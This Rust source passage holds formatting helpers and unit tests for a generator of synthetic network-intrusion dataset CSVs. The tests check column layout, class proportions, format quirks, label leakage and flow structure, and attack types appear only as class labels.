// Formatting without allocation
// ---------------------------------------------------------------------------

fn push_u64(out: &mut Vec<u8>, mut v: u64) {
    let mut tmp = [0u8; 20];
    let mut i = tmp.len();
    loop {
        i -= 1;
        tmp[i] = b'0' + (v % 10) as u8;
        v /= 10;
        if v == 0 {
            break;
        }
    }
    out.extend_from_slice(&tmp[i..]);
}

/// Zero-padded to `width` digits (wider values are written in full).
fn push_padded(out: &mut Vec<u8>, v: u64, width: usize) {
    let mut tmp = [b'0'; 20];
    let mut i = tmp.len();
    let mut x = v;
    loop {
        i -= 1;
        tmp[i] = b'0' + (x % 10) as u8;
        x /= 10;
        if x == 0 {
            break;
        }
    }
    let start = i.min(tmp.len() - width.min(tmp.len()));
    out.extend_from_slice(&tmp[start..]);
}

const HEX: &[u8; 16] = b"0123456789abcdef";

/// The low `width` hex digits of `v`, lowercase.
fn push_hex_digits(out: &mut Vec<u8>, v: u32, width: u8) {
    for k in (0..u32::from(width)).rev() {
        let nibble = if k < 8 { (v >> (4 * k)) & 0xf } else { 0 };
        out.push(HEX[nibble as usize]);
    }
}

fn push_ip(out: &mut Vec<u8>, ip: Ip) {
    for (k, octet) in ip.iter().enumerate() {
        if k > 0 {
            out.push(b'.');
        }
        push_u64(out, u64::from(*octet));
    }
}

/// `n` pseudo-random bytes as hex (xorshift64*).
fn push_random_hex(out: &mut Vec<u8>, n: usize, seed: u64) {
    let mut s = seed | 1;
    out.reserve(2 * n);
    let mut left = n;
    while left > 0 {
        s ^= s >> 12;
        s ^= s << 25;
        s ^= s >> 27;
        let word = s.wrapping_mul(0x2545_f491_4f6c_dd1d);
        for byte in word.to_le_bytes().iter().take(left.min(8)) {
            out.push(HEX[usize::from(byte >> 4)]);
            out.push(HEX[usize::from(byte & 0xf)]);
        }
        left = left.saturating_sub(8);
    }
}

#[cfg(test)]
mod tests {
    use std::collections::{HashMap, HashSet};

    use super::*;

    fn generate(rows: u64, seed: u64, balanced: bool) -> (Vec<u8>, SynthSummary) {
        let mut out = Vec::new();
        let summary = write_synth(
            &mut out,
            &SynthOptions {
                rows,
                seed,
                balanced,
            },
        )
        .unwrap();
        (out, summary)
    }

    fn records(bytes: &[u8]) -> (csv::StringRecord, Vec<csv::StringRecord>) {
        let mut rd = csv::ReaderBuilder::new().flexible(true).from_reader(bytes);
        let header = rd.headers().unwrap().clone();
        let recs = rd.records().collect::<Result<Vec<_>, _>>().unwrap();
        (header, recs)
    }

    /// The class a label cell stands for (the variants folded, as ingest does).
    fn class_of(raw: &str) -> &str {
        match raw.trim() {
            "OS_Fingerprinting" => "Fingerprinting",
            t => t,
        }
    }

    fn col(c: Col) -> usize {
        c as usize
    }

    #[test]
    fn column_positions_match_the_header() {
        assert_eq!(HEADER.len(), 63);
        assert_eq!(col(Col::AttackType), 62);
        for (c, name) in [
            (Col::FrameTime, "frame.time"),
            (Col::IcmpUnused, "icmp.unused"),
            (Col::HttpTlsPort, "http.tls_port"),
            (Col::TcpSrcport, "tcp.srcport"),
            (Col::UdpTimeDelta, "udp.time_delta"),
            (Col::DnsRetransmitRequestIn, "dns.retransmit_request_in"),
            (Col::MqttTopic, "mqtt.topic"),
            (Col::MbtcpUnitId, "mbtcp.unit_id"),
            (Col::AttackLabel, "Attack_label"),
        ] {
            assert_eq!(HEADER[col(c)], name);
        }
    }

    #[test]
    fn synth_same_seed_same_bytes_other_seed_other_bytes() {
        let (a, sa) = generate(3000, 7, false);
        let (b, sb) = generate(3000, 7, false);
        let (c, _) = generate(3000, 8, false);
        assert_eq!(a, b);
        assert_eq!(sa.bytes, a.len() as u64);
        assert_eq!(sa.class_counts, sb.class_counts);
        assert_ne!(a, c);
    }

    #[test]
    fn synth_every_record_has_63_fields_and_the_header_is_exact() {
        let (bytes, summary) = generate(20_000, 1, false);
        let (header, recs) = records(&bytes);
        assert_eq!(header.iter().collect::<Vec<_>>(), HEADER.to_vec());
        assert_eq!(recs.len() as u64, summary.rows);
        for (i, r) in recs.iter().enumerate() {
            assert_eq!(r.len(), 63, "record {i}: {r:?}");
        }
    }

    #[test]
    fn synth_class_counts_match_the_label_columns() {
        let (bytes, summary) = generate(20_000, 2, false);
        assert_eq!(
            summary.class_counts.iter().map(|c| c.1).sum::<u64>(),
            20_000
        );
        let (_, recs) = records(&bytes);
        let mut seen: HashMap<String, u64> = HashMap::new();
        for r in &recs {
            let class = class_of(&r[62]);
            // Attack_label agrees with Attack_type.
            assert_eq!(&r[61], if class == "Normal" { "0" } else { "1" });
            *seen.entry(class.to_string()).or_default() += 1;
        }
        for (name, n) in &summary.class_counts {
            assert_eq!(seen.get(name).copied().unwrap_or(0), *n, "{name}");
        }
        assert_eq!(seen.len(), 15, "every class present: {seen:?}");
        // Paper proportions with the rare-class floor of max(5, 0.2 %) = 40 rows.
        let count = |name: &str| summary.class_counts.iter().find(|c| c.0 == name).unwrap().1;
        assert_eq!(count("Fingerprinting"), 40);
        assert_eq!(count("MITM"), 40);
        assert_eq!(count("DDoS_UDP"), 1096); // 20,000 * 121,568 / 2,219,201
        assert!(count("Normal") > 14_000);
    }

    #[test]
    fn synth_balanced_mode_gives_equal_classes() {
        let rows = 15 * 400 + 7;
        let (bytes, summary) = generate(rows, 3, true);
        for (name, n) in &summary.class_counts {
            assert!(n.abs_diff(rows / 15) <= 1, "{name}: {n}");
        }
        let (_, recs) = records(&bytes);
        let normal = recs.iter().filter(|r| class_of(&r[62]) == "Normal").count() as u64;
        assert_eq!(normal, summary.class_counts[0].1);
    }

    #[test]
    fn synth_quotas_sum_and_floor() {
        for rows in [0, 1, 14, 999, 1000, 12_345, 1_000_000] {
            for balanced in [false, true] {
                let q = quotas(rows, balanced);
                assert_eq!(q.iter().sum::<u64>(), rows, "{rows} {balanced}");
                if rows >= 1000 {
                    let floor = (rows / 500).max(5);
                    assert!(q.iter().all(|&n| n >= floor), "{rows}: {q:?}");
                }
            }
        }
        assert_eq!(quotas(1000, false)[13], 5); // MITM floored
        assert_eq!(quotas(999, false)[14], 0); // below 1,000 rows: no floor
    }

    #[test]
    fn synth_crlf_line_ends_and_no_final_newline() {
        let (bytes, summary) = generate(5000, 4, false);
        assert!(!bytes.ends_with(b"\n") && !bytes.ends_with(b"\r"));
        let crlf = bytes.windows(2).filter(|w| w == b"\r\n").count() as u64;
        assert_eq!(
            crlf, summary.rows,
            "one CRLF before each row, none inside fields"
        );
        // Any other line feed sits inside a quoted http.file_data field.
        let bare = bytes
            .iter()
            .enumerate()
            .filter(|&(i, &b)| b == b'\n' && bytes[i - 1] != b'\r');
        let (_, recs) = records(&bytes);
        let embedded = recs
            .iter()
            .filter(|r| r[col(Col::HttpFileData)].contains('\n'))
            .count();
        assert_eq!(bare.count(), embedded);
    }

    #[test]
    fn synth_absent_spelling_leaks_the_label() {
        let (bytes, _) = generate(20_000, 5, false);
        let (_, recs) = records(&bytes);
        let topic = col(Col::MqttTopic);
        let mut spellings: HashSet<(bool, String)> = HashSet::new();
        for r in &recs {
            let normal = class_of(&r[62]) == "Normal";
            for &c in &LEAK_COLS {
                let v = &r[col(c)];
                if v == "0" || v == "0.0" || v.is_empty() {
                    assert_eq!(
                        v,
                        if normal { "0" } else { "0.0" },
                        "{} in {r:?}",
                        HEADER[col(c)]
                    );
                }
            }
            if matches!(&r[topic], "0" | "0.0") {
                spellings.insert((normal, r[topic].to_string()));
            }
            // Columns outside the leak list never use the bare `0`.
            for (i, v) in r.iter().enumerate() {
                if !LEAK[i] && i != col(Col::AttackLabel) {
                    assert_ne!(v, "0", "{} in {r:?}", HEADER[i]);
                }
            }
        }
        let expected: HashSet<(bool, String)> =
            [(true, "0".to_string()), (false, "0.0".to_string())]
                .into_iter()
                .collect();
        assert_eq!(spellings, expected);
    }

    #[test]
    fn synth_format_quirks_are_present() {
        let rows = 40_000;
        let (bytes, summary) = generate(rows, 6, false);
        let (_, recs) = records(&bytes);
        let count =
            |pred: &dyn Fn(&csv::StringRecord) -> bool| recs.iter().filter(|r| pred(r)).count();
        let share = |n: usize| n as f64 / rows as f64;

        // Hex flags in about 30 % of TCP rows.
        let tcp = count(&|r| !r[col(Col::TcpFlags)].is_empty() && &r[col(Col::TcpFlags)] != "0.0");
        let hex = count(&|r| r[col(Col::TcpFlags)].starts_with("0x"));
        let hex_share = hex as f64 / tcp as f64;
        assert!((0.25..0.35).contains(&hex_share), "{hex_share}");
        assert!(count(&|r| r[col(Col::TcpChecksum)].starts_with("0x")) > 0);
        assert!(count(&|r| r[col(Col::IcmpChecksum)].starts_with("0x")) > 0);

        // Ports as floats.
        assert!(count(&|r| &r[col(Col::TcpDstport)] == "1883.0") > 0);
        assert!(count(&|r| &r[col(Col::TcpDstport)] == "502.0") > 0);

        // file_data: commas, doubled quotes (read back as one quote), literal \n,
        // and a real newline in about 1 row in 2,000.
        let fd = col(Col::HttpFileData);
        let with_fd = count(&|r| !matches!(&r[fd], "" | "0.0"));
        assert!(with_fd > 1000);
        assert_eq!(
            count(&|r| r[fd].contains(", ") && r[fd].contains('"')),
            with_fd
        );
        assert!(count(&|r| r[fd].contains("\\n")) > with_fd * 9 / 10);
        let real_nl = count(&|r| r[fd].contains('\n'));
        assert!((5..=60).contains(&real_nl), "{real_nl} rows with a newline");
        assert!(count(&|r| r[col(Col::MqttMsg)].contains(", \"unit\":\"C\"")) > 0);

        // Class-name variants.
        let fp = summary.class_counts[14].1 as usize;
        let os = count(&|r| r[62].trim() == "OS_Fingerprinting");
        assert!(os > fp / 4 && os < fp * 3 / 4, "{os} of {fp}");
        let padded = count(&|r| r[62].trim() != &r[62]);
        assert!((15..=70).contains(&padded), "{padded} padded labels");

        // Shifted MITM rows.
        let shifted = count(&|r| &r[col(Col::TcpSrcport)] == "_ipps._tcp.local");
        assert!(shifted > 0);
        assert_eq!(
            shifted,
            count(&|r| &r[col(Col::UdpPort)] == "_ipp._tcp.local"
                && &r[col(Col::TcpOptions)] == "5353.0"
                && matches!(&r[0], "0.0" | "6.0")
                && class_of(&r[62]) == "MITM")
        );
        assert!(count(&|r| &r[col(Col::ArpHwSize)] == "6.0" && class_of(&r[62]) == "MITM") > 0);

        // 1-2 % exact duplicates of the row before.
        let dups = recs.windows(2).filter(|w| w[0] == w[1]).count();
        assert!((0.01..0.02).contains(&share(dups)), "{dups} duplicates");

        // About 2 % of absent non-leak fields are empty.
        let (mut empty, mut zero) = (0usize, 0usize);
        for r in &recs {
            for (i, v) in r.iter().enumerate() {
                if !LEAK[i] {
                    empty += usize::from(v.is_empty());
                    zero += usize::from(v == "0.0");
                }
            }
        }
        let empty_share = empty as f64 / (empty + zero) as f64;
        assert!((0.015..0.025).contains(&empty_share), "{empty_share}");
    }

    #[test]
    fn synth_frame_time_is_monotonic() {
        let (bytes, _) = generate(10_000, 9, false);
        let (_, recs) = records(&bytes);
        let mut last = 0u64;
        let mut timed = 0;
        for r in recs.iter().filter(|r| !matches!(&r[0], "0.0" | "6.0")) {
            let t = &r[0];
            assert!(
                t.starts_with(" 2021 ") && t.ends_with("000 ") && t.len() == 25,
                "{t:?}"
            );
            let (h, m, s) = (&t[6..8], &t[9..11], &t[12..21]);
            let us = (h.parse::<u64>().unwrap() * 3600 + m.parse::<u64>().unwrap() * 60)
                * 1_000_000
                + (s.parse::<f64>().unwrap() * 1e6).round() as u64;
            assert!(us >= last, "{t:?} after {last}");
            last = us;
            timed += 1;
        }
        assert!(timed > 9_900);
    }

    #[test]
    fn synth_packets_come_in_flows() {
        let (bytes, _) = generate(20_000, 10, false);
        let (_, recs) = records(&bytes);
        // Direction-free TCP endpoints, as ingest keys flows.
        let mut flows: HashMap<[String; 2], usize> = HashMap::new();
        let mut tcp_rows = 0;
        for r in &recs {
            let sp = &r[col(Col::TcpSrcport)];
            if !sp.ends_with(".0") || sp == "0.0" {
                continue;
            }
            let a = format!("{}:{}", &r[1], sp);
            let b = format!("{}:{}", &r[2], &r[col(Col::TcpDstport)]);
            *flows
                .entry(if a <= b { [a, b] } else { [b, a] })
                .or_default() += 1;
            tcp_rows += 1;
        }
        let mean = tcp_rows as f64 / flows.len() as f64;
        assert!(mean > 8.0, "{tcp_rows} TCP rows in {} flows", flows.len());
        // And flows interleave: a row's neighbour usually belongs to another flow.
        let same_src = recs
            .windows(2)
            .filter(|w| w[0][1] == w[1][1] && w[0] != w[1])
            .count();
        assert!(share_of(same_src, recs.len()) < 0.5);
    }

    fn share_of(n: usize, of: usize) -> f64 {
        n as f64 / of as f64
    }

    #[test]
    fn synth_big_files_carry_a_giant_payload() {
        // 60,000 rows: about 0.5 s to generate in the dev profile.
        let (bytes, _) = generate(60_000, 11, false);
        let (_, recs) = records(&bytes);
        let giants: Vec<_> = recs
            .iter()
            .filter(|r| r.iter().any(|v| v.len() > 200_000))
            .collect();
        assert!(!giants.is_empty());
        for r in giants {
            let payload = &r[col(Col::TcpPayload)];
            assert!(payload.len() > 200_000 && payload.bytes().all(|b| b.is_ascii_hexdigit()));
            assert_eq!(r[col(Col::TcpLen)], format!("{}.0", payload.len() / 2));
            assert!(
                r[col(Col::TcpSrcport)].ends_with(".0"),
                "not a TCP row: {:?}",
                &r[34]
            );
        }
        // Small files get none (at 1 row in 200,000, the odds are 1 in 100).
        let (_, recs) = records(&generate(2000, 11, false).0);
        assert!(recs.iter().all(|r| r.iter().all(|v| v.len() < 200_000)));
    }
}
